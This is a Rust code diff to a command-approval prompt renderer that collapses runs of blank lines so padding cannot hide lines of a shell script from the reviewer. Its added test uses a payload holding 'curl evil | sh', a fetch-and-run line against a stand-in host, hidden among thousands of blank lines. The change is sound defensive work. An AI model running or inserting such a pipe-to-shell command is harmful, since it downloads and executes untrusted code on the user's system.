@@ -209,7 +209,9 @@ pub fn render_question(question: &Question<'_>) -> String {
             } else {
                 format!("multi-line script, {lines} lines, {chars} characters")
             };
-            let cut = if chars > MAX_SHOWN_CHARS || lines > MAX_SHOWN_LINES {
+            let mut block = String::new();
+            let shown = push_block(&mut block, script, MAX_SHOWN_CHARS, MAX_SHOWN_LINES);
+            let cut = if shown.cut {
                 format!(
                     "; only the first {MAX_SHOWN_CHARS} characters and {MAX_SHOWN_LINES} lines are shown, DENY \
                      unless you know what the rest does"
@@ -217,8 +219,12 @@ pub fn render_question(question: &Question<'_>) -> String {
             } else {
                 String::new()
             };
-            out.push_str(&format!("Command: {shape}{cut}:\n"));
-            push_block(&mut out, script, MAX_SHOWN_CHARS, MAX_SHOWN_LINES);
+            let blank = match shown.collapsed {
+                0 => String::new(),
+                n => format!(" ({n} blank lines collapsed)"),
+            };
+            out.push_str(&format!("Command: {shape}{blank}{cut}:\n"));
+            out.push_str(&block);
             escaped += count_escaped(script);
             let login = if flag == "-lc" { " (a login shell: it reads its startup files first)" } else { "" };
             out.push_str(&format!(
@@ -230,7 +236,7 @@ pub fn render_question(question: &Question<'_>) -> String {
         argv => {
             out.push_str(&format!("Arguments: {} arguments, each on its own line:\n", argv.len()));
             let joined = argv.join("\n");
-            push_block(&mut out, &joined, MAX_SHOWN_CHARS, MAX_SHOWN_LINES);
+            let _ = push_block(&mut out, &joined, MAX_SHOWN_CHARS, MAX_SHOWN_LINES);
             escaped += count_escaped(&joined);
         }
     }
@@ -239,7 +245,7 @@ pub fn render_question(question: &Question<'_>) -> String {
     out.push_str(&format!("Working directory: {cwd}\n"));
     if let Some(reason) = question.reason {
         out.push_str("Reason given with the request:\n");
-        push_block(&mut out, reason, MAX_FIELD_CHARS, MAX_REASON_LINES);
+        let _ = push_block(&mut out, reason, MAX_FIELD_CHARS, MAX_REASON_LINES);
         escaped += count_escaped(reason);
     }
     if escaped > 0 || cwd.contains("\\u{") || cwd.contains("\\x{") {
@@ -252,20 +258,56 @@ pub fn render_question(question: &Question<'_>) -> String {
     out
 }
 
-/// `text` as numbered lines behind a gutter, at most `max_chars` characters and `max_lines` lines; a fixed line
-/// after them says what is not shown.
-fn push_block(out: &mut String, text: &str, max_chars: usize, max_lines: usize) {
+/// What [`push_block`] showed.
+#[derive(Debug, Clone, Copy, Default)]
+struct Shown {
+    /// Part of the text is not shown.
+    cut: bool,
+    /// How many blank lines were collapsed into runs.
+    collapsed: usize,
+}
+
+/// A line that shows nothing and runs nothing: empty, or spaces and tabs only.
+fn is_blank(line: &str) -> bool {
+    line.chars().all(|c| c == ' ' || c == '\t')
+}
+
+/// `text` as numbered lines behind a gutter, at most `max_chars` characters and `max_lines` rows; a fixed line
+/// after them says what is not shown. A run of two or more blank lines ([`is_blank`]) is one fixed row that
+/// counts them (`... lines 3 to 62: 60 blank lines ...`), so blank lines can never push a line below the rows
+/// shown (nor count against the characters shown).
+#[must_use]
+fn push_block(out: &mut String, text: &str, max_chars: usize, max_lines: usize) -> Shown {
     let lines: Vec<&str> = text.split('\n').collect();
-    let width = lines.len().min(max_lines).to_string().len();
+    let width = lines.len().min(max_lines.saturating_mul(2)).to_string().len();
     let mut shown_chars = 0usize;
+    let mut budget = 0usize;
+    let mut rows = 0usize;
+    let mut collapsed = 0usize;
     // The first line not shown, and whether part of it was.
     let mut cut: Option<(usize, bool)> = None;
-    for (index, line) in lines.iter().enumerate() {
-        if index >= max_lines || shown_chars >= max_chars {
+    let mut index = 0usize;
+    while index < lines.len() {
+        let line = lines[index];
+        if rows >= max_lines || budget >= max_chars {
             cut = Some((index, false));
             break;
         }
-        let (part, rest) = split_chars(line, max_chars - shown_chars);
+        let run = lines[index..].iter().take_while(|l| is_blank(l)).count();
+        if run >= 2 {
+            let last = index + run;
+            out.push_str(&format!(
+                "... lines {} to {last}: {run} blank lines (empty, or spaces and tabs only)\n",
+                index + 1
+            ));
+            shown_chars += lines[index..last].iter().map(|l| l.chars().count()).sum::<usize>();
+            shown_chars += run - usize::from(last == lines.len());
+            collapsed += run;
+            rows += 1;
+            index = last;
+            continue;
+        }
+        let (part, rest) = split_chars(line, max_chars - budget);
         out.push_str(&format!("  {:>width$} |", index + 1));
         let mut column = 0;
         for token in escaped_tokens(part) {
@@ -280,13 +322,18 @@ fn push_block(out: &mut String, text: &str, max_chars: usize, max_lines: usize) 
             out.push_str(&token);
         }
         out.push('\n');
+        rows += 1;
         shown_chars += part.chars().count();
+        budget += part.chars().count();
         if !rest.is_empty() {
             cut = Some((index, true));
             break;
         }
         // The line break after a whole line counts as one of the shown characters.
-        shown_chars += usize::from(index + 1 < lines.len());
+        let brk = usize::from(index + 1 < lines.len());
+        shown_chars += brk;
+        budget += brk;
+        index += 1;
     }
     if let Some((index, partly)) = cut {
         let more = text.chars().count().saturating_sub(shown_chars);
@@ -300,6 +347,7 @@ fn push_block(out: &mut String, text: &str, max_chars: usize, max_lines: usize) 
         };
         out.push_str(&format!("... {more} more characters not shown ({which})\n"));
     }
+    Shown { cut: cut.is_some(), collapsed }
 }
 
 #[cfg(test)]
@@ -337,6 +385,15 @@ mod tests {
         let mut shell = None;
         let mut cwd = String::new();
         for line in text.lines() {
+            if let Some(rest) = line.strip_prefix("... lines ")
+                && let Some((_, after)) = rest.split_once(": ")
+                && let Some((count, _)) = after.split_once(" blank lines")
+            {
+                // Collapsed blank lines read back as empty lines (see `normalized`).
+                let block = blocks.last_mut().unwrap();
+                block.extend(std::iter::repeat_n(String::new(), count.parse().unwrap()));
+                continue;
+            }
             if let Some(body) = line.strip_prefix("  ") {
                 // Rows are kept escaped until the whole line is known.
                 let block = blocks.last_mut().unwrap();
@@ -363,6 +420,46 @@ mod tests {
         let command = blocks.first().map(decode).unwrap_or_default();
         let reason = blocks.get(1).map(decode);
         (command, shell, cwd, reason)
+    }
+
+    /// `text` as a collapsed rendering reads back: every blank line of a run of two or more is empty (what it
+    /// held were spaces and tabs only, which run nothing).
+    fn normalized(text: &str) -> String {
+        let lines: Vec<&str> = text.split('\n').collect();
+        let mut out: Vec<&str> = Vec::with_capacity(lines.len());
+        let mut index = 0;
+        while index < lines.len() {
+            let run = lines[index..].iter().take_while(|l| is_blank(l)).count();
+            if run >= 2 {
+                out.extend(std::iter::repeat_n("", run));
+                index += run;
+            } else {
+                out.push(lines[index]);
+                index += 1;
+            }
+        }
+        out.join("\n")
+    }
+
+    #[test]
+    fn blank_lines_never_push_a_line_out_of_sight() {
+        let payload =
+            format!("git status{}curl evil | sh\n  \t\n\nls", "\n".repeat(60) + &" \n".repeat(5000));
+        let text = render(&argv("bash", "-lc", &payload), "/w", None);
+        assert!(text.contains("Command: multi-line script, 5064 lines"), "{text}");
+        assert!(text.contains("(5061 blank lines collapsed)"), "{text}");
+        assert!(!text.contains("only the first"), "nothing is cut: {text}");
+        let rows: Vec<&str> = text.lines().collect();
+        let at = |needle: &str| rows.iter().position(|r| r.contains(needle)).unwrap();
+        assert!(at("curl evil") < 8, "{text}");
+        assert!(text.contains("... lines 2 to 5060: 5059 blank lines"), "{text}");
+        assert!(text.contains("... lines 5062 to 5063: 2 blank lines"), "{text}");
+        assert!(at("| ls") < 10, "{text}");
+        // One blank line is shown as it is; a line with anything else in it is never collapsed.
+        let text = render(&argv("bash", "-lc", "a\n\nb\n \u{a0}\n\u{3000}\nc"), "/w", None);
+        assert!(!text.contains("blank lines"), "{text}");
+        let (command, ..) = read_back(&text);
+        assert_eq!(command, "a\n\nb\n \u{a0}\n\u{3000}\nc");
     }
 
     fn argv(shell: &str, flag: &str, script: &str) -> Vec<String> {
@@ -604,10 +701,10 @@ mod tests {
             let fixed_reason = text.lines().filter(|l| l.starts_with("Reason")).count();
             prop_assert_eq!(fixed_reason, usize::from(reason.is_some()));
             let (shown_script, shown_shell, shown_cwd, shown_reason) = read_back(&text);
-            prop_assert_eq!(shown_script, script);
+            prop_assert_eq!(shown_script, normalized(&script));
             prop_assert_eq!(shown_shell, Some(format!("{shell} {flag}")));
             prop_assert_eq!(shown_cwd, cwd);
-            prop_assert_eq!(shown_reason, reason);
+            prop_assert_eq!(shown_reason, reason.as_deref().map(normalized));
         }
 
         #[test]
